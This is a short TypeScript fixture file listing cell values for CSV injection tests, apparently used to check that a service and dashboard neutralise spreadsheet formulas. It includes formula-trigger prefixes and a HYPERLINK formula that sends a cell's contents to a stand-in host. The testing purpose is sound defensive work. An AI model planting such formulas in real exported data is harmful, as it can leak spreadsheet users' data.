/**
 * Cells a spreadsheet would run as a formula (or that hide one behind a control character), as
 * planted in titles by the CSV injection tests of the service and the dashboard.
 */
export const FORMULA_CELLS = [
  '=HYPERLINK("https://example.org/x?leak="&A1,"details")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '\tx',
  '\rx',
] as const;
